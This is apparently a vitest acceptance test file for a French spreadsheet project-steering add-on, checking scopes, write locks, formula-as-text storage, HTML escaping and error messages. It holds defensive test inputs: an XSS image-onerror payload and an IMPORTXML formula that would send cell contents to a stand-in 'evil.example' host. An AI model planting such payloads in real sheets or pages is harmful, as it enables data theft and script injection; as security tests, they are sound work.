// SPEC §7 acceptance: scopes, input tabs only read by reports/alerts/dashboard/snapshot, the lock on
// every write, user text starting with = + - @ kept as text (no visible apostrophe), HTML escaped in
// every dialog and sidebar, bad input named by cell with the rest going on, toasts after long actions.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { blank, example, inputSnapshot, lastToast, rowOf, textOf } from './support';
import { loadedEmulator } from '../support/bundle';

const EVIL = '<img src=x onerror=alert(1)>';

describe('SPEC §7 — scopes', () => {
  it('exactly the two non-sensitive scopes', () => {
    const manifest = JSON.parse(readFileSync('dist/appsscript.json', 'utf8')) as { oauthScopes: string[] };
    expect([...manifest.oauthScopes].sort()).toEqual([
      'https://www.googleapis.com/auth/script.container.ui',
      'https://www.googleapis.com/auth/spreadsheets.currentonly',
    ]);
  });
});

describe('SPEC §7 — input tabs are only read', () => {
  it('by the report, the alerts, the dashboard and the sidebar snapshot (snapshot compare)', () => {
    const emu = example();
    const before = inputSnapshot(emu);
    emu.run('boussoleGenererRapportPour', '2026-10');
    emu.run('boussoleVerifierSignaux');
    emu.run('boussoleActualiserTableauDeBord');
    emu.run('boussoleDonneesPanneau');
    emu.run('boussoleOuvrirPanneau');
    emu.run('boussolePointHebdo');
    expect(inputSnapshot(emu)).toEqual(before);
    expect(emu.lock.writesWithoutLock()).toBe(0);
  });
});

describe('SPEC §7 — every writing action holds the lock', () => {
  it('Initialiser, exemple, report, dashboard, planning actions, journal, sidebar RPCs, sharing', () => {
    const emu = loadedEmulator({ now: new Date(2026, 10, 23, 10) });
    emu.run('boussoleInitialiser');
    emu.run('boussoleChargerExemple');
    emu.user.answerPrompt('2026-10', 'OK');
    emu.run('boussoleGenererRapport');
    emu.run('boussoleActualiserTableauDeBord');
    emu.user.answerAlert('YES');
    emu.run('boussolePrioriserBacklog');
    emu.run('boussoleFeuilleDeRouteType');
    emu.run('boussolePlanRelance');
    emu.run('boussoleEnregistrerPointHebdo', { date: '2026-11-23', meteo: '🌤️ Variable', decisions: '', blocages: '', participants: '' });
    emu.run('boussoleAjouterAction', { action: 'Appeler', mois: '2026-12', responsable: 'Léa', echeance: '', budgetPrevu: '', poste: '' });
    emu.run('boussoleChangerStatut', { id: 'A-001', ligne: 2, statut: 'Fait' });
    emu.run('boussolePartagerAvecConsultant', 'lecteur');
    emu.run('boussoleInitialiser');
    expect(emu.ui.alerts.filter((a) => /n’a pas pu aboutir/.test(a.prompt))).toEqual([]);
    expect(emu.lock.acquisitions()).toBeGreaterThanOrEqual(10);
    expect(emu.lock.writesWithoutLock()).toBe(0);
  });
});

describe('SPEC §7 — user text starting with = + - @ is stored as text, as typed', () => {
  const typed = ['=1+1', '+33 6 12', '-10 % de pertes', '@Léa'];

  it('sidebar quick-add and status change', () => {
    const emu = example();
    for (const t of typed) {
      const r = emu.run('boussoleAjouterAction', { action: t, mois: '2026-12', responsable: t, echeance: '', budgetPrevu: '', poste: '' }) as { ok: boolean; ligne: number };
      expect(r.ok, t).toBe(true);
      expect(emu.book.values('Plan', `D${r.ligne}:F${r.ligne}`)[0], t).toEqual([t, 'Ponctuelle', t]); // no leading '
      expect(emu.book.formulas('Plan', `D${r.ligne}:F${r.ligne}`)[0], t).toEqual(['', '', '']);
    }
  });

  it('point hebdo journal row', () => {
    const emu = example();
    emu.run('boussoleEnregistrerPointHebdo', { date: '2026-11-23', meteo: '🌤️ Variable', decisions: typed[0], blocages: typed[2], participants: typed[3] });
    const row = emu.book.values('Journal').length;
    expect(emu.book.values('Journal', `D${row}:F${row}`)[0]).toEqual([typed[0], typed[2], typed[3]]);
    expect(emu.book.formulas('Journal', `D${row}:F${row}`)[0]).toEqual(['', '', '']);
  });

  it('Prioriser copies an idea text into Plan as text', () => {
    const emu = blank();
    emu.book.setValues('Backlog', 'A2', typed.map((t) => ['', t, 'Léa', '', 4, 2, 3, 4, 4]));
    emu.user.answerAlert('YES');
    emu.run('boussolePrioriserBacklog');
    expect(emu.book.values('Plan', 'D2:D5').flat()).toEqual(typed); // equal scores: order kept
    expect(emu.book.formulas('Plan', 'D2:D5').flat()).toEqual(['', '', '', '']);
    expect(emu.book.values('Backlog', 'B2:B5').flat()).toEqual(typed);
  });

  it('the report and the dashboard show them as text', () => {
    const emu = example();
    emu.book.setValues('Plan', 'D19', [['=IMPORTXML("http://evil.example/?"&A1;"//a")']]);
    emu.book.setValues('Plan', 'M19', [['@Julien']]); // the Résultat of a done action: its own cell in the report (v2)
    emu.run('boussoleGenererRapportPour', '2026-10');
    emu.run('boussoleActualiserTableauDeBord');
    const values = emu.book.values('Rapport 2026-10').flat();
    expect(values).toContain('=IMPORTXML("http://evil.example/?"&A1;"//a")');
    expect(values).toContain('@Julien');
    expect(emu.book.formulas('Rapport 2026-10').flat().every((f) => f === '')).toBe(true);
    for (const tab of ['Rapport 2026-10', 'Tableau de bord', 'Plan', 'Backlog', 'Journal']) {
      expect(emu.book.values(tab).flat().filter((v) => typeof v === 'string' && v.startsWith("'")), tab).toEqual([]);
    }
  });
});

describe('SPEC §7 — everything shown in HTML is escaped', () => {
  it('in the Rapport prêt, Signaux and Point hebdo dialogs', () => {
    const emu = example();
    const blocked = rowOf(emu, 'Plan', 'Bloqué', 6);
    emu.book.setValues('Plan', `D${blocked}`, [[EVIL]]);
    emu.book.setValues('Cadrage', 'B3', [[`Projet ${EVIL}`]]);
    emu.book.setValues('Gouvernance', 'A2', [[`Chantier ${EVIL}`]]);
    emu.user.answerPrompt('2026-10', 'OK');
    emu.run('boussoleGenererRapport');
    emu.run('boussoleVerifierSignaux');
    emu.run('boussolePointHebdo');
    expect(emu.ui.dialogs.map((d) => d.title)).toEqual(['Rapport prêt', expect.stringMatching(/^Signaux/), 'Préparer le point hebdo']);
    for (const dialog of emu.ui.dialogs) {
      expect(dialog.html, dialog.title).not.toContain('<img');
      expect(dialog.html, dialog.title).toContain('&lt;img src=x onerror=alert(1)&gt;');
    }
  });

  it('the sidebars build their DOM with textContent only (no innerHTML on data)', () => {
    for (const file of ['dist/Panneau.html', 'dist/Aide.html']) {
      const html = readFileSync(file, 'utf8');
      expect(html, file).not.toMatch(/\.innerHTML\s*=|insertAdjacentHTML|outerHTML\s*=|document\.write/);
    }
  });
});

describe('SPEC §7 — bad input: named cell, expected value, the rest goes on', () => {
  it('an unknown status: exact message in the alerts dialog, the report skips one row and says so', () => {
    const emu = example();
    emu.book.setValues('Plan', 'G12', [['Finit']]);
    emu.run('boussoleVerifierSignaux');
    // textOf folds the no-break spaces of French typography (« Finit », « : ») into plain spaces.
    expect(textOf(emu.ui.dialogs[0]?.html)).toContain('Plan!G12 : statut « Finit » inconnu — attendu : À faire, En cours, Bloqué, Fait, Abandonné');
    const r = emu.run('boussoleGenererRapportPour', '2026-10') as { feuille: string };
    expect(r.feuille).toBe('Rapport 2026-10');
    const text = emu.book.values('Rapport 2026-10').map((row) => String(row[0])).join('\n');
    expect(text).toContain('1 ligne ignorée');
    expect(text).toContain('Plan!G12 : statut « Finit » inconnu — attendu : À faire, En cours, Bloqué, Fait, Abandonné');
    expect((emu.run('boussoleDonneesPanneau') as { problemes: number }).problemes).toBe(1);
  });

  it('an invalid quick-add field: field-level French error and nothing written', () => {
    const emu = example();
    const before = inputSnapshot(emu);
    const r = emu.run('boussoleAjouterAction', { action: 'Appeler', mois: '2026-13', responsable: '', echeance: '31/02/2026', budgetPrevu: 'beaucoup', poste: 'Inconnu' }) as { ok: boolean; erreurs: Record<string, string> };
    expect(r.ok).toBe(false);
    expect(Object.keys(r.erreurs).sort()).toEqual(['budgetPrevu', 'echeance', 'mois', 'poste', 'responsable']);
    expect(r.erreurs.mois).toMatch(/« 2026-13 » n’est pas un mois — attendu : AAAA-MM/);
    expect(inputSnapshot(emu)).toEqual(before);
  });
});

describe('SPEC §1 — every long action ends with a toast saying what was done', () => {
  it('Initialiser, exemple, report, dashboard, planning actions', () => {
    const emu = loadedEmulator({ now: new Date(2026, 10, 23, 10) });
    const toastOf = (fn: string, ...answers: Array<() => void>) => {
      answers.forEach((a) => a());
      const n = emu.ui.toasts.length;
      emu.run(fn);
      // At most one progress toast (ending with …, kept until replaced) before the closing one.
      const added = emu.ui.toasts.slice(n);
      expect(added.length, fn).toBeGreaterThanOrEqual(1);
      expect(added.length, fn).toBeLessThanOrEqual(2);
      if (added.length === 2) expect(added[0], fn).toMatchObject({ message: expect.stringMatching(/…/), timeoutSeconds: -1 });
      expect(added.at(-1)?.message, fn).not.toMatch(/…/);
      return lastToast(emu) ?? '';
    };
    expect(toastOf('boussoleInitialiser')).toMatch(/^Classeur initialisé — 10 onglets créés/);
    expect(toastOf('boussoleChargerExemple')).toMatch(/^Exemple chargé/);
    expect(toastOf('boussoleGenererRapport', () => emu.user.answerPrompt('2026-10'))).toContain('Rapport 2026-10');
    expect(toastOf('boussoleActualiserTableauDeBord')).toMatch(/^Tableau de bord actualisé/);
    expect(toastOf('boussolePrioriserBacklog', () => emu.user.answerAlert('NO'))).toMatch(/^Backlog/);
    expect(toastOf('boussolePlanRelance')).toMatch(/^Plan de relance ajouté : 8 actions/);
    expect(toastOf('boussoleInitialiser')).toMatch(/^Le classeur était déjà prêt/); // second run: nothing changed
  });

  it('the 12-month roadmap and Répartir on a new classeur', () => {
    const emu = blank();
    emu.book.setValues('Cadrage', 'B9', [['Mature'], [5000], [new Date(2026, 10, 1)]]);
    emu.run('boussoleFeuilleDeRouteType');
    expect(lastToast(emu)).toMatch(/^Feuille de route type ajoutée au Plan : 38 actions de novembre 2026 à octobre 2027/);
    emu.user.answerAlert('YES');
    emu.run('boussoleRepartirBudget');
    // 5 000 € Mature: 25 % = 1 250, 10 % = 500, Long terme 3 000 − 1 250, Résultats rapides 1 000 − 500, Optimisation 1 000
    expect(lastToast(emu)).toBe('Budget : 5 postes créés (Formation et accompagnement 1 250 €, Tests de nouveaux canaux 500 €, Long terme 1 750 €, Résultats rapides 500 €, Optimisation & imprévus 1 000 €).');
    expect(emu.ui.toasts).toHaveLength(2);
  });
});
